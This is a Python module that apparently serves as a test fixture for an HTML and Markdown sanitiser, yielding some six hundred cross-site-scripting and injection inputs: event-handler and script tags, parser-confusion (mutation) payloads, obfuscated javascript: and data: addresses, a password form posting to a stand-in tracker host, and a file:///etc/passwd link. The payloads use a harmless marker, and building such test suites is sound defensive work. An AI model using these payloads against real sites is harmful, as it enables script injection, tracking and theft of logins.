"""Texts that try to run something, fetch something or leave their place, by how they try.

`RUN` is what each would do if it could; a browser that did it would set ``window.hit``.
"""

from collections.abc import Iterator

RUN = "window.hit=1"
FAR = "http://tracker.example/p.png"

_ELEMENTS = f"""\
<script>{RUN}</script>
<SCRIPT SRC=//tracker.example/x.js></SCRIPT>
<script/x>{RUN}</script >
<scr<script>ipt>{RUN}</scr</script>ipt>
<svg onload={RUN}>
<svg/onload={RUN}>
<svg><script>{RUN}</script></svg>
<svg><script href="data:text/javascript,{RUN}"/></svg>
<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a/></svg>#x"/></svg>
<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>
<img src=x onerror={RUN}>
<img src="{FAR}">
<img src=x:x onerror = "{RUN}">
<IMG SRC=javascript:{RUN}>
<img srcset="{FAR} 2x">
<picture><source srcset="{FAR}"></picture>
<body onload={RUN}>
<body background="{FAR}">
<iframe src="javascript:{RUN}"></iframe>
<iframe srcdoc="<script>parent.hit=1</script>"></iframe>
<iframe src="{FAR}"></iframe>
<frameset onload={RUN}></frameset>
<object data="javascript:{RUN}"></object>
<object data="{FAR}"></object>
<embed src="{FAR}">
<applet code=x></applet>
<form action="{FAR}"><input name=password><button>Sign in</button></form>
<form><button formaction="javascript:{RUN}">x</button></form>
<input autofocus onfocus={RUN}>
<select autofocus onfocus={RUN}></select>
<textarea autofocus onfocus={RUN}></textarea>
<isindex action="javascript:{RUN}" type=submit>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle={RUN}>x</div>
<meta http-equiv=refresh content="0;url={FAR}">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<base href="{FAR}">
<link rel=stylesheet href="{FAR}">
<link rel=preload as=image href="{FAR}">
<style>@import "{FAR}";</style>
<style>*{{background:url({FAR})}}</style>
<p style="background:url({FAR})">x</p>
<div style="position:fixed;inset:0">x</div>
<video src="{FAR}" onerror={RUN}></video>
<video poster="{FAR}"></video>
<audio src=x onerror={RUN}></audio>
<video><source onerror={RUN} src=x></video>
<track src="{FAR}">
<details open ontoggle={RUN}><summary>x</summary></details>
<marquee onstart={RUN}>x</marquee>
<bgsound src="{FAR}">
<dialog open onclose={RUN}>x</dialog>
<a onclick={RUN} onmouseover={RUN} href=#x>x</a>
<a href="https://e.example" ping="{FAR}">x</a>
<a href="https://e.example" target=_blank>x</a>
<a href="https://e.example" download>x</a>
<p onpointerenter={RUN}>x</p>
<td background="{FAR}">x</td>
<table background="{FAR}"><tr><td>x</table>
<p id=main class=leave name=csrf_token>x</p>
<template><script>{RUN}</script></template>
<template shadowrootmode=open><script>{RUN}</script></template>
<slot onslotchange={RUN}></slot>
<custom-element onclick={RUN}>x</custom-element>
<portal src="{FAR}"></portal>"""

# One parser's text is another's element: what a sanitiser and a browser may read differently.
_CONFUSIONS = (
    f"""\
<noscript><p title="</noscript><img src=x onerror={RUN}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">
<math><mi//xlink:href="data:x,<script>{RUN}</script>">
<math href="javascript:{RUN}">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>
<svg></p><style><a id="</style><img src=1 onerror={RUN}>">
<svg><style><img src=x onerror={RUN}></style></svg>
<math><style><img src=x onerror={RUN}></style></math>
<title><a title="</title><img src=x onerror={RUN}>">
<textarea><a title="</textarea><img src=x onerror={RUN}>">
<xmp><a title="</xmp><img src=x onerror={RUN}>">
<noembed><a title="</noembed><img src=x onerror={RUN}>">
<noframes><a title="</noframes><img src=x onerror={RUN}>">
<iframe><a title="</iframe><img src=x onerror={RUN}>">
<plaintext><img src=x onerror={RUN}>
<!--><img src=x onerror={RUN}>-->
<!--- --!><img src=x onerror={RUN}> -->
<!-- --!><script>{RUN}</script> -->
<![CDATA[<img src=x onerror={RUN}>]]>
<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>
<?xml version="1.0"?><script>{RUN}</script>
<?><img src=x onerror={RUN}>
<!DOCTYPE html><img src=x onerror={RUN}>
</p><img src=x onerror={RUN}>
</br><img src=x onerror={RUN}>
<img src=x onerror={RUN}//
<img """
    + f"""src="x` `<script>{RUN}</script>"` `>
<<img src=x onerror={RUN}>
<img/src/onerror={RUN}>
<a href="x"<img src=x onerror={RUN}>
<p title="</p><img src=x onerror={RUN}>">x</p>
`<img src=x onerror={RUN}>`<img src=x onerror={RUN}>
<code><img src=x onerror={RUN}></code>
<pre><img src=x onerror={RUN}></pre>
<ol start="1" onfocus={RUN}><li>x</li></ol>
<th align="left" style="x" scope="col" onclick={RUN}>x</th>"""
)

_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript&#x3A;{RUN}",
    f"javascript&#0000058{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6a;&#x61;vascript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#1;javascript:{RUN}",
    f"&#14;  javascript:{RUN}",
    f"javascript\u200b:{RUN}",
    f"jav\u00adascript:{RUN}",
    f"\uff4aavascript:{RUN}",
    f"javascript://tracker.example/%0a{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "blob:https://tracker.example/x",
    "filesystem:https://tracker.example/x",
    "file:///etc/passwd",
    "view-source:x",
    "ms-word:ofe|u|http://tracker.example/t.docx",
    "//tracker.example/x",
    "\\\\tracker.example\\x",
    "/leave",
    "?nations=all",
    "../sign-out",
)

_WAYS = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    "<{}>",
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    "![x]({})",
    "[![x]({0})]({0})",
)

_MARKDOWN = (
    f"![x]({FAR})",
    f"![x][r]\n\n[r]: {FAR}",
    f"![x](x 'y\" onerror=\"{RUN}')",
    f"[x](https://e.example 'y\" onclick=\"{RUN}')",
    f"[x](https://e.example \"y' onclick='{RUN}\")",
    f'[x"onclick="{RUN}](https://e.example)',
    f"[x](https://e.example'onclick='{RUN})",
    f'<https://e.example/"onclick="{RUN}>',
    f"# x {{: onclick={RUN} }}",
    f"x {{: onclick={RUN} }}",
    f"```{{: onclick={RUN} }}\nx\n```",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | `<script>{RUN}</script>` |",
    f"> <script>{RUN}</script>",
    f"- <script>{RUN}</script>\n    - <img src=x onerror={RUN}>",
    f"1. x\n\n    <script>{RUN}</script>",
    f"**<img src=x onerror={RUN}>**",
    f"*x<script>*{RUN}</script>",
    f"\\<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"\x02wzxhzdk:0\x03<script>{RUN}</script>",
    f"\x02amp\x03lt;script\x02amp\x03gt;{RUN}",
    f"<div>\n\n<script>{RUN}</script>\n\n</div>",
    f"<div markdown=1 onclick={RUN}>*x*</div>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"\ufeff<script>{RUN}</script>",
    f"<\uff53cript>{RUN}</script>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"<img\x0csrc=x\x0conerror={RUN}>",
    f"<img\u2028src=x\u2028onerror={RUN}>",
    f"[[x<img src=x onerror={RUN}>]]",
    f"[@x <img src=x onerror={RUN}>]",
    f"/// law | <img src=x onerror={RUN}>\n<script>{RUN}</script>\n///",
    f"/// sensitive | <img src=x onerror={RUN}>\nx\n///",
    f'/// law | x" onclick="{RUN}\nx\n///',
    f"/// law | x\n    attrs: {{onclick: {RUN}}}\n\nx\n///",
    f"/// nation | scotland\n    attrs: {{id: main, style: x}}\n\n<img src={FAR}>\n///",
    "/// html | script\nx\n///",
)


def payloads() -> Iterator[str]:
    """All of them: some six hundred."""
    yield from _ELEMENTS.splitlines()
    yield from _CONFUSIONS.splitlines()
    for address in _ADDRESSES:
        for way in _WAYS:
            yield way.format(address)
    yield from _MARKDOWN
    for element in _ELEMENTS.splitlines():
        yield f"/// case | x\n> {element}\n///"
        yield f'<p title="{element}">'
        yield element.replace("<", "\n<").replace(">", "\n>")
        yield element.replace(" ", "/")
